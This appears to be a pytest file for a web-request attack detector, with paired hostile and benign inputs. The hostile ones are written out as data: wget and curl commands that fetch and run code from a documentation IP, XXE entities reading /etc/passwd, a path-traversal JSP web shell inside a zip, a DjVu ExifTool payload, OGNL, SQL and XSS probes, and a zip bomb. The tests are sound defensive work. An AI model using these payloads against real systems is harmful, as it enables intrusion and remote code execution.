"""Round 11 (stop 20, blind batches s and benign 10): XML documents inside values, binary bodies, botnet marks."""
from __future__ import annotations

import pytest

from sensor.detect import verdict
from tests.detect.conftest import req

_XML = [("Content-Type", "text/xml")]


def _dvr(server: str) -> bytes:
    """A LILIN DVR config call: the service file travels as an XML document inside a CDATA section."""
    inner = (f'<?xml version="1.0" encoding="UTF-8"?><DVR Platform="Hi3520"><Service><NTP Enable="True" Interval="20" '
             f'Server="{server}"/></Service></DVR>')
    return (f'<?xml version="1.0" encoding="UTF-8"?><DVR Platform="Hi3520"><SetConfiguration File="service.xml">'
            f'<![CDATA[{inner}]]></SetConfiguration></DVR>').encode()


@pytest.mark.parametrize("server,attack", [
    ("$(cd /tmp;busybox wget http://203.0.113.9/m;sh m)", True),
    ("time.nist.gov&amp;wget http://203.0.113.9/l.arm -O /tmp/l;sh /tmp/l;", True),
    ("time.nist.gov", False),
    ("pool.ntp.org", False),
])
def test_xml_document_inside_a_value_is_parsed(engine, server, attack):
    hits = engine.inspect(req("/dvr/cmd", "POST", _XML, _dvr(server)))
    assert (verdict(hits) == "attack") == attack, hits
    if attack:
        assert any(h.point[-4:] == ["xml_doc", "attr", "NTP", "Server"] and h.type == "rce" for h in hits), hits


def test_xml_doc_points_only_for_an_xml_declaration():
    from sensor.points import extract
    pts = extract(req("/api", "POST", [("Content-Type", "application/x-www-form-urlencoded")],
                      b"soap=%3C%3Fxml+version%3D%221.0%22%3F%3E%3Ca+b%3D%22c%22%2F%3E&html=%3Cp+class%3D%22x%22%3Ehi%3C%2Fp%3E"))
    paths = [p.path for p in pts]
    assert ["post", "form_urlencoded", "soap", "xml_doc", "attr", "a", "b"] in paths
    assert not any("xml_doc" in p and "html" in p for p in paths)  # an HTML fragment is no XML document


_IPP = (b"\x02\x00\x00\x0b\x00\x00\x00\x01\x01G\x00\x12attributes-charset\x00\x05utf-8H\x00\x1battributes-natural-language"
        b"\x00\x05en-usE\x00\x0bprinter-uri\x00\x1fipp://192.168.1.40:631/ipp/print\x03")


@pytest.mark.parametrize("body,ctype,attack", [
    (_IPP, "application/ipp", False),                                  # NULs all through: a binary protocol
    (b"file=../../../../etc/passwd\x00.png", "application/octet-stream", True),
    (b"name=avatar.php\x00.jpg", "text/plain", True),                  # one NUL cutting a file name short
])
def test_nul_bytes_in_binary_bodies(engine, body, ctype, attack):
    hits = engine.inspect(req("/ipp/print", "POST", [("Content-Type", ctype)], body))
    assert (verdict(hits) == "attack") == attack, hits


@pytest.mark.parametrize("value,attack", [
    ('[{"api":"SYNO.Core.System","method":"info","version":3}]', False),   # a dotted API name ending in System
    ('{{ .System "id" }}', True),
    ('system "id"', True),
    ('$out = qx{id}', True),
])
def test_perl_calls_and_dotted_names(engine, value, attack):
    assert (verdict(engine.inspect_value(value)) == "attack") == attack


def test_androxgh0st_checkin_is_a_tool_mark(engine):
    hits = engine.inspect(req("/", "POST", [("Content-Type", "application/x-www-form-urlencoded")], b"0x%5B%5D=androxgh0st"))
    assert "scanner:tool_marker" in {h.rule for h in hits if h.score >= 0.5}
    assert verdict(engine.inspect(req("/?q=androxgh0st+malware+analysis"))) == "clean"  # the name in a search is a word


# --- benign 9 (enterprise products): strong passwords, batch sub-requests, the site's own URLs, e-mail heads
_FORM = [("Content-Type", "application/x-www-form-urlencoded")]


@pytest.mark.parametrize("field,value,attack", [
    ("passwd", "S&mmer<>2024\";", False),            # chance shapes of a strong password: reported, not blocked
    ("passwd", "Gl0b@l;|$ecure", False),
    ("password", "Crüsh+%&Ftp", False),
    ("pwd", "<my>pass'word\";", False),
    ("new_password", "x';q|z&Y", False),
    ("password", "' or 1=1--", True),                 # login bypasses keep their own rules
    ("pass", "x'||'1'='1", True),
    ("password", "*)(|(objectClass=*)", True),
    ("password", "$(id)", True),
    ("password", ";curl http://203.0.113.9/x|sh;echo '", True),   # three words and more: judged as any value
    ("password_hash", "S&mmer<>2024\";", True),       # not a password as typed
    ("comment", "S&mmer<>2024\";", True),
])
def test_password_fields(engine, field, value, attack):
    from urllib.parse import quote_plus
    body = f"user=jdoe&{field}={quote_plus(value)}".encode()
    hits = engine.inspect(req("/login", "POST", _FORM, body))
    assert (verdict(hits) == "attack") == attack, hits


def test_password_in_json(engine):
    ok = engine.inspect(req("/api/login", "POST", [("Content-Type", "application/json")],
                            b'{"username": "jdoe", "password": "S&mmer<>2024\\";"}'))
    bad = engine.inspect(req("/api/login", "POST", [("Content-Type", "application/json")],
                             b'{"username": "jdoe", "password": "\' or 1=1--"}'))
    typed = engine.inspect(req("/api/login", "POST", [("Content-Type", "application/json")],
                               b'{"username": "admin", "password": true}'))
    assert verdict(ok) == "clean" and verdict(bad) == "attack" and verdict(typed) == "attack"


def _batch(sub: str) -> bytes:
    return ("--b1\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\n" + sub
            + "\r\n--b1--\r\n").encode()


@pytest.mark.parametrize("sub,attack", [
    ("POST Approve?PONumber='4500012345'&Comment='OK%20-%20within%20budget' HTTP/1.1\r\nContent-Type: application/json"
     "\r\nContent-Length: 0\r\n\r\n", False),
    ("GET PurchaseOrderSet('4500012345')?$expand=ToItems HTTP/1.1\r\nAccept: application/json\r\n\r\n", False),
    ("GET Users?$filter=name%20eq%20''%20or%201=1--' HTTP/1.1\r\nAccept: application/json\r\n\r\n", True),
    ("POST Notes HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"text\": \"<script>alert(1)</script>\"}", True),
])
def test_batch_sub_requests_are_read_as_requests(engine, sub, attack):
    hits = engine.inspect(req("/sap/opu/odata/sap/ZPO_SRV/$batch", "POST",
                              [("Content-Type", "multipart/mixed; boundary=b1")], _batch(sub)))
    assert (verdict(hits) == "attack") == attack, hits
    if attack:
        assert any("http" in h.point for h in hits if h.score >= 0.5), hits


def test_a_script_url_on_the_site_itself_is_not_remote(engine):
    own = "https://bigip01.corp.example.com/tmui/Control/jspmap/tmui/locallb/virtual_server/list.jsp"
    other = "https://evil.example.net/shell.jsp"
    r = req("/tmui/x", headers=[("Cookie", "f5_refreshpage=" + own)], host="bigip01.corp.example.com")
    assert verdict(engine.inspect(r)) == "clean"
    r = req("/tmui/x?page=" + other, host="bigip01.corp.example.com")
    assert verdict(engine.inspect(r)) == "attack"


@pytest.mark.parametrize("value,attack", [
    ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body>Hi team, the '
     'report is attached.</body></html>', False),
    ('<meta http-equiv="Content-Type" content="text/html; charset=UTF-8">', True),   # injected alone
    # before the document's `<head`, not inside it: the tag's place is what counts, not that a head exists somewhere
    ('<meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><html><head></head><body>Hi team, the '
     'report is attached.</body></html>', True),
    ('<meta charset="UTF-8">', True),
    ('<meta charset="utf-7">', True),
    ('<html><head><meta charset="utf-7"></head><body>Hi team, the report is attached.</body></html>', True),
    ('<meta http-equiv="set-cookie" content="sid=x">', True),
    ('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', True),
])
def test_meta_tags(engine, value, attack):
    assert (verdict(engine.inspect_value(value)) == "attack") == attack


@pytest.mark.parametrize("value,attack", [
    ("<p>The unit file is tiny:</p><pre>[Timer]\nOnCalendar=*-*-* 03:00:00\nPersistent=true</pre>", False),
    ("<b>x</b> onmouseover=alert(1)", True),           # a known handler stays a breakout wherever it is
    ("\" onfoo=alert(1) x=\"", True),                   # an unknown one after a quote too
    ('{{widget type="Magento\\CatalogWidget\\Block\\Product\\ProductsList" '
     'conditions_encoded="^[`1`:^[`type`:`Magento||CatalogWidget||Model||Rule||Condition||Combine`,`aggregator`:`all`]]"}}',
     False),                                           # JSON quoted with backticks, not command substitution
    ("name=`id`", True),
    ("{\"a\": \"`id`\"}", True),
])
def test_text_after_tags_and_backtick_json(engine, value, attack):
    assert (verdict(engine.inspect_value(value)) == "attack") == attack


# --- uploaded archives: an Office document's XML parts and the names of its members are points
def _zip(members: list[tuple[str, str]]) -> bytes:
    import io
    import zipfile
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, text in members:
            zf.writestr(name, text)
    return buf.getvalue()


def _upload(name: str, data: bytes, ctype: str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"):
    bnd = "----b7MA4YWxk"
    body = (f'--{bnd}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\nContent-Type: {ctype}\r\n\r\n'
            ).encode() + data + f"\r\n--{bnd}--\r\n".encode()
    return req("/api/v1/imports", "POST", [("Content-Type", f"multipart/form-data; boundary={bnd}")], body)


_CT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{dtd}<Types xmlns="http://schemas.openxmlformats.org/'
       'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>')


@pytest.mark.parametrize("members,attack", [
    ([("[Content_Types].xml", _CT.format(dtd="")), ("xl/workbook.xml", "<workbook><sheets><sheet name=\"Q3 'final'\" "
                                                                          "sheetId=\"1\"/></sheets></workbook>")], False),
    ([("[Content_Types].xml", _CT.format(dtd='<!DOCTYPE Types [<!ENTITY x SYSTEM "file:///etc/passwd">]>'))], True),
    ([("word/document.xml", '<!DOCTYPE d [<!ENTITY % r SYSTEM "http://203.0.113.9/x.dtd"> %r;]><d/>')], True),
    ([("../../../../var/www/html/shell.jsp", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>")], True),
    ([("docs/readme.txt", "Quarterly numbers, see sheet 2."), ("img/logo.png", "\x89PNG binary")], False),
])
def test_uploaded_archives_are_read(engine, members, attack):
    hits = engine.inspect(_upload("contacts.xlsx", _zip(members)))
    assert (verdict(hits) == "attack") == attack, hits


def test_a_zip_bomb_member_is_cut_to_the_decoded_budget():
    from sensor.points import Limits, extract_all
    bomb = _zip([("xl/sharedStrings.xml", "<sst>" + "A" * (40 << 20) + "</sst>")])
    assert len(bomb) < 200_000
    ex = extract_all(_upload("big.xlsx", bomb), Limits(max_decoded=1 << 20))
    assert "decoded_size" in ex.overlimits
    assert sum(len(p.value) for p in ex.points) <= 2 << 20


# --- batch r (KEV exploitation): OGNL concatenated into a template, ExifTool's DjVu annotations
@pytest.mark.parametrize("value,attack", [
    ("aaaaaaaa'+{233*233}+'", True),                 # Confluence CVE-2021-26084 probe, once \u0027 is decoded
    ("x'+#{\"\".getClass()}+'", True),
    ("'Hello ' + {name} + '!'", False),              # JSX-like text: braces around a name evaluate nothing
    ('price: "$" + {amount} + " USD"', False),
])
def test_ognl_concatenation(engine, value, attack):
    assert (verdict(engine.inspect_value(value)) == "attack") == attack


def test_ognl_probe_in_unicode_escapes(engine):
    hits = engine.inspect(req("/pages/createpage-entervariables.action?queryString=aaaaaaaa%5Cu0027%2B%7B233*233%7D%2B%5Cu0027"))
    assert "java:ognl_concat" in {h.rule for h in hits if h.score >= 0.5}


def _djvu(annotation: bytes) -> bytes:
    chunk = b"ANTa" + len(annotation).to_bytes(4, "big") + annotation
    info = b"INFO\x00\x00\x00\x0a\x00\x01\x00\x01\x18\x00\x2c\x01\x16\x01"
    body = b"DJVU" + info + chunk
    return b"AT&TFORM" + len(body).to_bytes(4, "big") + body


@pytest.mark.parametrize("annotation,attack", [
    (b'(metadata (Copyright "\\\n" . qx{curl -s http://203.0.113.7/g.sh|bash} . \\\n" b ") )', True),
    (b'(metadata (Title "Floor plan, level 2") (Author "J. Doe"))', False),
])
def test_djvu_uploads_show_their_annotations(engine, annotation, attack):
    bnd = "----b1"
    body = (f'--{bnd}\r\nContent-Disposition: form-data; name="file"; filename="test.jpg"\r\nContent-Type: image/jpeg'
            f"\r\n\r\n").encode() + _djvu(annotation) + f"\r\n--{bnd}--\r\n".encode()
    hits = engine.inspect(req("/uploads/user", "POST", [("Content-Type", f"multipart/form-data; boundary={bnd}")], body))
    assert (verdict(hits) == "attack") == attack, hits
